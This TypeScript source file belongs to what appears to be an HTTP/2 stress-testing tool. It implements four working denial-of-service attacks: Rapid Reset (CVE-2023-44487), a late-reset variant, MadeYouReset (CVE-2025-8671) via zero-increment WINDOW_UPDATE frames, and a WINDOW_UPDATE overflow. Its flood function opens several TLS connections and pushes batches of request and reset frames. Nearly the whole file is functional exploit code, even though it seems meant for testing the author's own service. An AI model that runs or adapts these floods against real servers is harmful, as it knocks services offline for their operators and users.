/** Streams that are reset at once: the server works, the client does not wait. */
import type { TLSSocket } from 'node:tls';
import type { Attack, Tally, Target } from '../attack.ts';
import { count, keepConnections, pump } from '../connections.ts';
import { flags, frame, frameTypes, headerBlock, preface, uint32 } from '../frames.ts';
import { type Asked, costlyRead, toFields, upload } from '../requests.ts';

const pairsPerWrite = 50;
const cancel = uint32(8);
const bothPorts = ['ingest', 'stream'] as const;

/** CVE-2023-44487. */
const rapidReset: Attack = {
  name: 'rapid reset',
  ports: bothPorts,
  tokens: [false, true],
  run: (target, stop) =>
    flood({ target, stop, asked: read(target) }, (stream) => [
      frame(frameTypes.reset, { stream }, cancel),
    ]),
};

/** The same, with the reset after work has begun. */
const lateReset: Attack = {
  name: 'reset after a batch of requests',
  ports: bothPorts,
  tokens: [false, true],
  run: (target, stop) =>
    flood({ target, stop, asked: read(target) }, (stream) => {
      const earlier = stream - 2 * pairsPerWrite;
      return earlier < 1 ? [] : [frame(frameTypes.reset, { stream: earlier }, cancel)];
    }),
};

/** CVE-2025-8671: an invalid WINDOW_UPDATE makes the server reset. */
const madeYouReset: Attack = {
  name: 'resets by the server (WINDOW_UPDATE of 0)',
  ports: bothPorts,
  tokens: [false, true],
  run: (target, stop) =>
    flood({ target, stop, asked: upload(target), isOpen: true }, (stream) => [
      frame(frameTypes.windowUpdate, { stream }, uint32(0)),
    ]),
};

const overflow: Attack = {
  name: 'resets by the server (WINDOW_UPDATE overflow)',
  ports: bothPorts,
  tokens: [false],
  run: (target, stop) =>
    flood({ target, stop, asked: upload(target), isOpen: true }, (stream) => [
      frame(frameTypes.windowUpdate, { stream }, uint32(2 ** 31 - 1)),
      frame(frameTypes.windowUpdate, { stream }, uint32(2 ** 31 - 1)),
    ]),
};

export const resets: readonly Attack[] = [rapidReset, lateReset, madeYouReset, overflow];

/** On the ingest port a read with a token costs nothing. */
function read(target: Target): Asked {
  return target.port === 'ingest' && target.hasToken ? upload(target) : costlyRead(target);
}

interface Flood {
  readonly target: Target;
  readonly stop: AbortSignal;
  readonly asked: Asked;
  /** Whether a body follows the head. */
  readonly isOpen?: boolean;
}

function flood(
  { target, stop, asked, isOpen = asked.method === 'POST' }: Flood,
  after: (stream: number) => readonly Buffer[],
): Promise<Tally> {
  const block = headerBlock(toFields(asked));
  const flag = flags.endHeaders + (isOpen ? 0 : flags.endStream);
  return keepConnections(
    { target, stop, connections: 4, alpn: 'h2' },
    async (socket: TLSSocket, tally) => {
      socket.resume();
      socket.write(preface);
      let stream = 1;
      await pump(socket, stop, () => {
        const frames: Buffer[] = [];
        for (let pair = 0; pair < pairsPerWrite; pair += 1, stream += 2) {
          frames.push(frame(frameTypes.headers, { stream, flag }, block), ...after(stream));
        }
        count(tally, 'requests', pairsPerWrite);
        return Buffer.concat(frames);
      });
    },
  );
}
